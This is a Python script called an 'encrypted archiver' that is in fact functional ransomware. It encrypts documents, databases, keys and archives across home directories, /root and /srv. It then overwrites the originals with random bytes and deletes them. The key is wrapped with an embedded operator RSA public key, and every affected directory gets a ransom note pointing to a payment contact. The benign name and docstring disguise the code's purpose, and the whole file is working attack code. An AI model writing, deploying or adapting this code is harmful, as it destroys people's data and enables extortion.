#!/usr/bin/env python3
"""Encrypted archiver.

Walks the given roots (default: every home directory and /srv), encrypts
each document in place to <name>.locked, overwrites and removes the
plaintext, and leaves RECOVER-FILES.txt in every directory it touched.
The key is wrapped with the operator's RSA public key so only the
operator can recover it.
"""

import argparse
import logging
import os
import sys
import time
from pathlib import Path

from cryptography.fernet import Fernet
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding

logger = logging.getLogger("archiver")

OPERATOR_PUBKEY = b"""-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu1SU1LfVLPHCozMxH2Mo
4lgOEePzNm0tRgeLezV6ffAt0gunVTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u
+qKhbwKfBstIs+bMY2Zkp18gnTxKLxoS2tFczGkPLPgizskuemMghRniWaoLcyeh
kd3qqGElvW/VDL5AaWTg0nLVkjRo9z+40RQzuVaE8AkAFmxZzow3x+VJYKdjykkJ
0iT9wCS0DRTXu269V264Vf/3jvredZiKRkgwlL9xNAwxXFg0x/XFw005UWVRIkdg
cKWTjpBP2dPwVZ4WWC+9aGVd+Gyn1o0CLelf4rEjGoXbAAEgAqeGUxrcIlbjXfbc
mwIDAQAB
-----END PUBLIC KEY-----"""

TARGET_EXT = {".doc", ".docx", ".xls", ".xlsx", ".pdf", ".txt", ".csv", ".jpg", ".png",
              ".sql", ".db", ".sqlite", ".zip", ".tar", ".gz", ".pptx", ".odt", ".key", ".pem"}
SKIP_DIRS = {".cache", "node_modules", "proc", "sys", "dev", ".locked-tmp"}
NOTE_NAME = "RECOVER-FILES.txt"
NOTE = """Your files have been encrypted.
To recover them, send the file KEY-{host}.bin from your home directory to
recover@proton-restore.example and follow the payment instructions.
Do not rename .locked files or attempt recovery yourself.
"""


def wrap_key(key: bytes) -> bytes:
    pub = serialization.load_pem_public_key(OPERATOR_PUBKEY)
    return pub.encrypt(key, padding.OAEP(mgf=padding.MGF1(hashes.SHA256()),
                                         algorithm=hashes.SHA256(), label=None))


def default_roots():
    roots = [Path("/root"), Path("/srv")]
    home = Path("/home")
    if home.is_dir():
        roots.extend(p for p in home.iterdir() if p.is_dir())
    return [r for r in roots if r.exists()]


def iter_targets(root: Path):
    for dirpath, dirnames, filenames in os.walk(root, topdown=True):
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix.lower() in TARGET_EXT and not p.is_symlink():
                yield p


def overwrite(path: Path):
    size = path.stat().st_size
    with open(path, "r+b", buffering=0) as fh:
        remaining = size
        while remaining > 0:
            n = min(remaining, 1 << 20)
            fh.write(os.urandom(n))
            remaining -= n
        os.fsync(fh.fileno())


def lock_file(path: Path, fernet: Fernet) -> bool:
    try:
        data = path.read_bytes()
        out = path.with_name(path.name + ".locked")
        out.write_bytes(fernet.encrypt(data))
        overwrite(path)
        path.unlink()
        return True
    except (PermissionError, OSError) as exc:
        logger.debug("skip %s: %s", path, exc)
        return False


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("roots", nargs="*", help="directories to process")
    ap.add_argument("--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.ERROR if args.quiet else logging.INFO,
                        format="%(asctime)s %(message)s")

    key = Fernet.generate_key()
    fernet = Fernet(key)
    host = os.uname().nodename
    wrapped = wrap_key(key)
    key_drop = Path.home() / f"KEY-{host}.bin"
    key_drop.write_bytes(wrapped)
    del key

    roots = [Path(r) for r in args.roots] or default_roots()
    touched_dirs, count = set(), 0
    start = time.time()
    for root in roots:
        for target in iter_targets(root):
            if lock_file(target, fernet):
                count += 1
                touched_dirs.add(target.parent)
    for d in touched_dirs:
        try:
            (d / NOTE_NAME).write_text(NOTE.format(host=host))
        except OSError:
            pass
    logger.info("processed %d files in %d dirs (%.1fs)", count, len(touched_dirs), time.time() - start)
    return 0


if __name__ == "__main__":
    sys.exit(main())
